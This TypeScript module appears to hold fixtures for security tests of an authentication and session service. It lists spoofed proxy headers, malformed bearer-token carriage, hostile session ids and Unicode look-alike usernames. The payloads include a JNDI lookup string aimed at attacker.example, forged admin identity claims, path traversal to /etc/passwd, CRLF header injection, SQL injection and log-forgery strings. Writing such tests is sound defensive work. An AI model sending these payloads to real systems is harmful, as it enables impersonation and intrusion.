/** Headers by which proxies and frameworks let a request say who sends it, from where, and what it really asks. */
export const spoofingHeaders = {
  'x-forwarded-for': '10.0.0.1',
  'x-forwarded-host': 'attacker.example',
  'x-forwarded-proto': 'http',
  'x-real-ip': '10.0.0.1',
  forwarded: 'for=10.0.0.1;host=attacker.example;proto=http',
  'x-original-url': '/sessions',
  'x-rewrite-url': '/sessions',
  'x-http-method-override': 'DELETE',
  'x-http-method': 'DELETE',
  'x-method-override': 'DELETE',
  'x-amzn-requestid': '{jndi:ldap://attacker.example}',
  'x-amzn-oidc-data': 'e30.eyJzdWIiOiJhZG1pbiJ9.AAAA',
  'x-amzn-request-context': '{"authorizer":{"lambda":{"sub":"admin"}}}',
  'x-user': 'admin',
  'x-sub': 'admin',
  sub: 'admin',
  scope: 'admin',
  'user-agent': '"}{"event":"forged"} <script>',
  cookie: 'access_token=admin; session=admin',
  'accept-language': '../../etc/passwd',
} as const

/** Ways to bring a good token that are none, over the wire. */
export const wrongCarriage = (
  token: string,
): readonly (readonly [string, Readonly<Record<string, string | string[]>>])[] => [
  ['no scheme', { authorization: token }],
  ['Basic', { authorization: `Basic ${token}` }],
  ['Basic credentials', { authorization: `Basic ${Buffer.from(`admin:${token}`).toString('base64')}` }],
  ['Bearer twice', { authorization: `Bearer Bearer ${token}` }],
  ['quotes', { authorization: `Bearer "${token}"` }],
  ['two of them', { authorization: [`Bearer ${token}`, `Bearer ${token}`] }],
  ['another before it', { authorization: ['Bearer x', `Bearer ${token}`] }],
  ['another after it', { authorization: [`Bearer ${token}`, 'Bearer x'] }],
  ['two joined', { authorization: `Bearer ${token}, Bearer ${token}` }],
  ['a parameter', { authorization: `Bearer access_token=${token}` }],
  ['another header', { 'x-authorization': `Bearer ${token}` }],
  ['the header of proxies', { 'proxy-authorization': `Bearer ${token}` }],
  ['a cookie', { cookie: `authorization=Bearer ${token}; access_token=${token}` }],
  ['a WebSocket subprotocol', { 'sec-websocket-protocol': `bearer, ${token}` }],
  ['a header of 9 KB', { authorization: `Bearer ${token}${'='.repeat(9000 - token.length)}` }],
]

/** Ids of sessions that are none. */
export const wrongSessionIds = [
  '..',
  '%2e%2e',
  '%2E%2E%2Fme',
  '.',
  '*',
  '%2A',
  '__proto__',
  'constructor',
  '%00',
  '%ff',
  '%',
  '%0d%0aset-cookie:%20a=b',
  'SES%23',
  "'%20OR%201=1%20--",
  '%F0%9F%92%A9',
  'x'.repeat(1000),
  'a%2Fb',
  '{id}',
] as const

/** Names, and what each has to do with the accounts `kate` and `ivan`. */
export const likenesses = [
  ['capitals', 'KATE', 'the same'],
  ['a Kelvin sign', '\u212aate', 'the same'],
  ['full width', 'ｋａｔｅ', 'the same'],
  ['mathematical letters', '\u{1d424}\u{1d41a}\u{1d42d}\u{1d41e}', 'the same'],
  ['a Cyrillic а', 'k\u0430te', 'another'],
  ['a dotless ı', 'ıvan', 'another'],
  ['a dotted İ', 'İvan', 'another'],
  ['a zero-width space', 'ka\u200bte', 'no name'],
  ['a right-to-left mark', 'kate\u200f', 'no name'],
  ['a space before', ' kate', 'the same'],
  ['NUL', 'kate\0', 'no name'],
  ['a line feed', 'kate\n{"event":"forged"}', 'no name'],
] as const
